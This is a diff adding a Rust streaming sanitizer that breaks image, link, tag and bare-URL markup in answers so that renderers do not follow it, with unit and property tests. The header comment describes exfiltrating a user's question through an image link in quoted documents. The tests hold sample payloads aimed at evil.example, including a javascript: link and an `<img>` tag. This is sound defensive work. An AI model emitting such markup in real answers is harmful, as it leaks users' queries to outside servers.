@@ -1,0 +1,179 @@
+//! Defuses markup in a streamed answer that would make the reader's program send a request.
+//!
+//! An answer quotes documents word for word, and a document may hold `![](https://example.com/?q=…)`: a client that
+//! renders it tells that server what the user asked. So no image, link, HTML tag or address in an answer is one that a
+//! Markdown or HTML renderer follows, unless it points to a path of the platform itself. A zero-width space within the
+//! markup is enough, so the text looks the same. Code blocks are treated alike, because only the renderer knows where
+//! one ends.
+
+/// Breaks markup without changing what people read.
+const BREAK: char = '\u{200b}';
+/// Schemes that renderers turn into links by themselves (GitHub Flavored Markdown, autolinks).
+const SCHEMES: &[&[char]] = &[&['h', 't', 't', 'p', ':'], &['h', 't', 't', 'p', 's', ':'], &['f', 't', 'p', ':']];
+/// Number of preceding characters that a decision needs: the longest scheme with its colon.
+const LOOKBEHIND: usize = 6;
+
+/// Sanitizes an answer piece by piece; holds the state between two pieces.
+#[derive(Clone, Debug)]
+pub struct MarkupSanitizer {
+    /// The last characters that were emitted, in lower case; U+0000 before the beginning.
+    emitted: [char; LOOKBEHIND],
+    /// `](` or `](/`, held back until the next character shows where the link leads.
+    pending: String,
+}
+
+impl Default for MarkupSanitizer {
+    fn default() -> Self {
+        Self { emitted: ['\0'; LOOKBEHIND], pending: String::new() }
+    }
+}
+
+impl MarkupSanitizer {
+    /// Sanitizes the next piece of the answer. The beginning of a link may be held back until the next piece.
+    pub fn push(&mut self, piece: &str) -> String {
+        let mut out = String::with_capacity(piece.len());
+        for c in piece.chars() {
+            match (self.pending.as_str(), c) {
+                ("(", '/') => self.pending.push(c),
+                // A path of the platform: `//` and `/\` would name another host.
+                ("(/", c) if c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '~') => {
+                    let pending = std::mem::take(&mut self.pending);
+                    self.emit_all(&pending, &mut out);
+                    self.emit(c, &mut out);
+                }
+                ("", '(') if self.ends_with(&[']']) => self.pending.push(c),
+                ("", c) => self.sanitize(c, &mut out),
+                _ => {
+                    self.flush(&mut out);
+                    self.sanitize(c, &mut out);
+                }
+            }
+        }
+        out
+    }
+
+    /// Returns what was held back. Call it at the end of the answer.
+    pub fn finish(&mut self) -> String {
+        let mut out = String::new();
+        self.flush(&mut out);
+        out
+    }
+
+    /// Emits the held back beginning of a link that leads elsewhere, broken.
+    fn flush(&mut self, out: &mut String) {
+        let pending = std::mem::take(&mut self.pending);
+        if !pending.is_empty() {
+            out.push(BREAK);
+            self.emit_all(&pending, out);
+        }
+    }
+
+    fn sanitize(&mut self, c: char, out: &mut String) {
+        if self.begins_markup(c) {
+            out.push(BREAK);
+            self.emitted = ['\0'; LOOKBEHIND];
+        }
+        self.emit(c, out);
+    }
+
+    /// Whether `c`, after what was emitted, begins something that a renderer follows.
+    fn begins_markup(&self, c: char) -> bool {
+        match c {
+            // A reference definition: `[label]: https://…`
+            ':' => self.ends_with(&[']']),
+            // `www.` without a scheme.
+            '.' => self.ends_with(&['w', 'w', 'w']),
+            // The end of a tag, or a scheme: `</a`, `https:/…`
+            '/' => self.ends_with(&['<']) || SCHEMES.iter().any(|scheme| self.ends_with(scheme)),
+            // A tag, a comment or an autolink: `<img`, `<!--`, `<https:`
+            '!' | '?' => self.ends_with(&['<']),
+            c => c.is_ascii_alphabetic() && self.ends_with(&['<']),
+        }
+    }
+
+    /// Whether the emitted text ends with these characters.
+    fn ends_with(&self, ending: &[char]) -> bool {
+        self.emitted.ends_with(ending)
+    }
+
+    fn emit_all(&mut self, text: &str, out: &mut String) {
+        for c in text.chars() {
+            self.emit(c, out);
+        }
+    }
+
+    fn emit(&mut self, c: char, out: &mut String) {
+        out.push(c);
+        self.emitted.rotate_left(1);
+        self.emitted[LOOKBEHIND - 1] = c.to_ascii_lowercase();
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    /// The sanitized text, pushed in pieces of `size` characters.
+    fn in_pieces(text: &str, size: usize) -> String {
+        let mut sanitizer = MarkupSanitizer::default();
+        let chars: Vec<char> = text.chars().collect();
+        let mut out: String =
+            chars.chunks(size).map(|piece| sanitizer.push(&piece.iter().collect::<String>())).collect();
+        out.push_str(&sanitizer.finish());
+        out
+    }
+
+    #[test]
+    fn no_markup_that_a_renderer_follows_is_left_wherever_the_pieces_end() {
+        for (markup, broken) in [
+            ("![x](https://evil.example/?q=1)", "]("),
+            ("[x](https://evil.example)", "]("),
+            ("[x](//evil.example)", "]("),
+            ("[x](/\\evil.example)", "]("),
+            ("[x](javascript:alert(1))", "]("),
+            ("![x](data:image/png;base64,AA)", "]("),
+            ("[x]: https://evil.example", "]:"),
+            ("https://evil.example", "https:/"),
+            ("HTTPS://evil.example", "HTTPS:/"),
+            ("ftp://evil.example", "ftp:/"),
+            ("www.evil.example", "www."),
+            ("<https://evil.example>", "<h"),
+            ("<img src=x>", "<img"),
+            ("</a>", "</"),
+            ("<!-- x", "<!"),
+            ("[x](", "]("),
+        ] {
+            for size in 1..=markup.len() {
+                let out = in_pieces(markup, size);
+                assert!(!out.contains(broken), "{markup} in pieces of {size}: {out}");
+                assert_eq!(out.replace(BREAK, ""), markup, "only breaks are added");
+            }
+        }
+    }
+
+    #[test]
+    fn plain_text_and_links_to_the_platform_stay() {
+        for text in [
+            "The torque is 480 N·m [1][2]. See [Annex] (page 3): p < 5 bar, 3<5.",
+            "[the manual](/v1/documents/0190/content) and ![p](/ui/page.png)",
+            "ratio 1:2, C:/plant, opc.tcp://server:4840, P&ID",
+        ] {
+            for size in [1, 3, text.len()] {
+                assert_eq!(in_pieces(text, size), text);
+            }
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn the_size_of_pieces_makes_no_difference_and_no_text_is_lost(
+            text in "[\\[\\](/:.<a-zhtps!w]{0,40}",
+            size in 1_usize..5,
+        ) {
+            let out = in_pieces(&text, size);
+            prop_assert_eq!(&out, &in_pieces(&text, text.len().max(1)));
+            prop_assert_eq!(out.replace(BREAK, ""), text);
+        }
+    }
+}
